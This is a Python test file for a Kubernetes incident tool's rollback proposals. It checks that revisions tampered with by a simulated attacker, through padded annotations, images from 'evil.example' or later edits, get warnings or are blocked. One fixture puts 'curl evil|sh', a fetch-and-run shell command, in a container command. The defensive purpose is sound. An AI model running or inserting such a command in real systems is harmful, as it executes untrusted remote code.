"""What is approved is what is shown: the proposal of a release that somebody prepared for that."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

from incidentcommander.api.common import GuardVerdict
from incidentcommander.api.incident import Proposal
from incidentcommander.observed.workloads import Revision
from tests.support import build
from tests.support.play import Play, World

PADDING = {f"example.com/{n:02}": "x" * 380 for n in range(25)}


def rollback_to(template: dict[str, Any]) -> Proposal:
    """The proposal to go back to a revision whose template is that."""
    older = build.revision(6, created_at=build.ago(days=5), pod_template=template)
    world = World(revisions=(older, build.history()[1]))
    play = Play(world).tick()
    return next(p for p in play.status.proposals if p.remediation == "rollback")


def names(proposal: Proposal) -> list[str]:
    return [g.name for g in proposal.guards]


def test_a_rollback_that_is_shown_whole_is_recommended() -> None:
    proposal = rollback_to(build.template(build.OLD_IMAGE))

    assert proposal.recommended
    assert "DiffCut" not in names(proposal)


def test_ed_pads_an_old_revision_and_its_rollback_is_not_recommended() -> None:
    evil = build.template("evil.example/shop/checkout:v1", annotations=PADDING)
    evil["spec"]["containers"][0]["command"] = ["sh", "-c", "curl evil|sh"]
    proposal = rollback_to(evil)
    warning = next(g for g in proposal.guards if g.name == "DiffCut")

    assert not proposal.recommended
    assert warning.verdict is GuardVerdict.WARN
    assert "other changes are not all" in warning.message
    assert "kubectl -n shop rollout history deployment/checkout --revision=6" in warning.message
    assert "+      - image: evil.example/shop/checkout:v1\n" in proposal.diff
    assert "+        - curl evil|sh\n" in proposal.diff


def test_it_is_said_where_a_diff_hides_a_part_of_what_runs() -> None:
    endless = build.template(build.OLD_IMAGE)
    endless["spec"]["containers"][0]["args"] = ["x" * 9000]
    proposal = rollback_to(endless)
    warning = next(g for g in proposal.guards if g.name == "DiffCut")

    assert not proposal.recommended
    assert "even of what runs" in warning.message


def test_ed_takes_an_image_of_the_same_name_elsewhere_and_the_summary_names_both() -> None:
    proposal = rollback_to(build.template("evil.example/x/checkout:v1"))

    assert proposal.summary == (
        "Roll back Deployment checkout from revision 7 (shop/checkout:v2) to revision 6 "
        "(evil.example/x/checkout:v1)"
    )
    assert "Revision 6 (evil.example/x/checkout:v1, created" in proposal.reason


def test_the_image_of_an_init_container_is_named_too() -> None:
    more = build.template(build.OLD_IMAGE)
    more["spec"]["initContainers"] = [{"name": "i", "image": "evil.example/i:1"}]

    assert "(shop/checkout:v1, evil.example/i:1)" in rollback_to(more).summary


def test_registries_are_left_out_where_they_tell_nothing() -> None:
    proposal = rollback_to(build.template(build.OLD_IMAGE))

    assert "from revision 7 (checkout:v2) to revision 6 (checkout:v1)" in proposal.summary


def test_of_a_long_name_both_ends_are_kept() -> None:
    proposal = rollback_to(build.template(f"evil.example/{'x' * 150}/checkout:v1"))

    assert "(evil.example/xxx" in proposal.summary
    assert "xxx/checkout:v1)" in proposal.summary


def test_ed_edits_a_revision_after_the_incident_saw_it_and_it_is_blocked() -> None:
    play = Play().tick()
    noted = dict(play.status.known_revisions)
    evil = build.revision(6, "evil.example/x/checkout:v1", created_at=build.ago(days=5))
    play.world.revisions = (evil, build.history()[1])
    play.say("diagnose", "again")
    proposal = next(p for p in play.status.open_proposals if p.remediation == "rollback")

    assert set(noted) == {"rev6-uid", "rev7-uid"}
    assert play.status.known_revisions == noted
    assert proposal.blocked
    assert not proposal.recommended
    assert "RevisionEdited" in names(proposal)


def with_notes(**notes: str) -> tuple[Revision, Revision]:
    older = build.revision(6, build.OLD_IMAGE, created_at=build.ago(days=5), annotations=notes)
    return older, build.history()[1]


def test_annotations_that_an_undo_brings_along_stand_in_the_diff() -> None:
    play = Play(World(revisions=with_notes(hostname="pay.example.com"))).tick()
    proposal = next(p for p in play.status.proposals if p.remediation == "rollback")

    assert "+    hostname: pay.example.com\n" in proposal.diff


def test_ed_annotates_an_old_revision_after_the_offer_and_what_was_shown_is_done() -> None:
    play = Play(World(revisions=with_notes())).tick()
    offered = play.open("rollback")
    play.world.revisions = with_notes(hostname="pay.example.com")
    play.say("approve", offered)

    assert "RemediationApplied" in play.reasons
    assert "pay.example.com" not in json.dumps(play.world.changes[0].write.patch)


def test_a_revision_that_somebody_seems_to_have_written_is_not_recommended() -> None:
    fields: dict[str, Any] = {"f:spec": {"f:selector": {}, "f:template": {"f:spec": {}}}}
    edited: dict[str, Any] = {"f:spec": {"f:template": {"f:spec": {"f:serviceAccountName": {}}}}}
    at = build.ago(days=5)
    entries = [build.managed("k", at, fields), build.managed("kubectl-edit", at, edited)]
    older = build.revision(6, build.OLD_IMAGE, created_at=at)
    raw = build.merged(older.raw, {"metadata": {"managedFields": entries}})
    play = Play(World(revisions=(replace(older, raw=raw), build.history()[1]))).tick()
    proposal = next(p for p in play.status.proposals if p.remediation == "rollback")

    assert names(proposal) == ["RevisionEdited"]
    assert not proposal.blocked
    assert not proposal.recommended


def test_what_speaks_against_an_open_offer_later_is_shown_on_it_too() -> None:
    play = Play().tick()
    before = next(p for p in play.status.proposals if p.remediation == "rollback")
    assert "ScaledToZero" not in names(before)

    play.world.edit(spec={"replicas": 0})
    play.tick()

    after = next(p for p in play.status.proposals if p.remediation == "rollback")
    assert after.id == before.id
    assert "ScaledToZero" in names(after)
    assert not after.recommended
